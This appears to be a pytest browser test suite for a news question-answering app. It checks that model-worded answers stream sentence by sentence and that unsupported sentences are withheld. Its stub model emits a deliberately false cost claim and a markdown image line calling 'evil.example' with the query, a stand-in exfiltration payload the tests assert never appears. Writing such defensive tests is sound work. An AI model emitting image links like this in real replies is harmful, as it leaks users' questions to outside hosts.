"""A model words the answer on the page: sentence by sentence, checked, or not at all."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from accessibility import violations
from conftest import FORGE, App, Visit
from playwright.sync_api import Browser, Page, expect
from serving import draft, serving, settings_in
from web import running

from evals import model_server
from evals.prompted import asks_to_rewrite, passages_of, question_of
from evals.replies import Reply, Request, Says, Stalls, Status

pytestmark = pytest.mark.browser  # in this order: after two failures the model is left alone

TRUE = "In March 2021 the forge of Bellemont put a press of 900 tonnes into service. [{n}]\n"
FALSE = "The press cost 45 million dirhams. [{n}]\n"
IMAGE = "![see](http://evil.example/?q=press) [{n}]\n"
ASKED = "Which press did the forge of Bellemont put into service?"


def play(request: Request) -> Reply:
    asked = question_of(request)
    if asks_to_rewrite(request):
        return Says(asked)
    n = next((n for n, text in passages_of(request).items() if "900 tonnes" in text), 1)
    said = tuple(line.format(n=n) for line in (TRUE, FALSE, IMAGE))
    if "broken" in asked:
        return Status(500)
    if "silent" in asked:
        return Stalls(said[:1], beats=0.1)
    return Says(said, 0.6)


@pytest.fixture(scope="module")
def app(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    with model_server.serving(play) as model:
        settings = settings_in(
            tmp_path_factory.mktemp("worded"),
            model="openai:double",
            model_url=model.url,
            model_seconds=12.0,
        )
        service = serving(settings)
        service.store([
            draft("forge", FORGE, title="La forge de Bellemont s'équipe", publisher="La Gazette",
                  published="2021-03-04"),
        ])  # fmt: skip
        service.index.search("warm", "en", 1)
        with running(service, settings) as address:
            yield App(address, service, settings)
        service.close()


def ask(page: Page, question: str) -> None:
    page.locator("#question textarea").fill(question)
    page.keyboard.press("Enter")


def test_sentences_come_as_they_pass_and_what_does_not_is_only_counted(visit: Visit) -> None:
    page = visit("/en/")
    ask(page, ASKED)
    said = page.locator(".reply .said").first
    expect(said).to_contain_text("900 tonnes into service")
    expect(page.locator(".turn .stage")).to_be_visible()  # more is being worded
    expect(page.locator(".worded").first).to_contain_text("openai:double")
    expect(page.locator(".worded").last).to_contain_text("2 sentences withheld")
    expect(page.locator(".turn .stage")).to_have_count(0)
    expect(page.locator(".card mark").first).to_contain_text("presse de 900 tonnes")
    assert "45 million" not in page.content()
    assert "evil.example" not in page.content()
    assert not violations(page)


def test_a_model_that_falls_silent_never_holds_the_page(visit: Visit, app: App) -> None:
    page = visit("/en/")
    ask(page, f"{ASKED[:-1]}, silent?")
    expect(page.locator(".turn .notes, .turn .worded").first).to_be_visible(timeout=40_000)
    expect(page.locator(".turn .stage")).to_have_count(0)
    expect(page.locator("#question textarea")).to_be_enabled()


def test_stopping_leaves_what_was_asked_and_takes_the_next_question(visit: Visit) -> None:
    page = visit("/en/")
    ask(page, f"{ASKED[:-1]} in 2021, silent?")
    expect(page.locator(".reply .said")).to_contain_text("900 tonnes")
    with page.expect_response("**/cancel"):
        page.locator("#stop").click()
    expect(page.locator(".turn .trouble")).to_be_visible()
    ask(page, ASKED)
    expect(page.locator(".turn").last.locator(".said").first).to_contain_text("900 tonnes")


@pytest.mark.parametrize(
    ("path", "question", "note"),
    [
        ("/en/", f"{ASKED[:-1]}, broken?", "the language model is out of order"),
        ("/fr/", "Quelle presse la forge de Bellemont a-t-elle mise en service, broken ?",
         "le modèle de langage est en panne"),
    ],
)  # fmt: skip
def test_a_failing_model_leaves_the_answer_made_of_quotes(
    visit: Visit, app: App, path: str, question: str, note: str
) -> None:
    page = visit(path)
    ask(page, question)
    expect(page.locator(".turn .notes")).to_contain_text(note)
    expect(page.locator(".turn .stage")).to_have_count(0)
    expect(page.locator(".reply")).not_to_contain_text("openai:double")
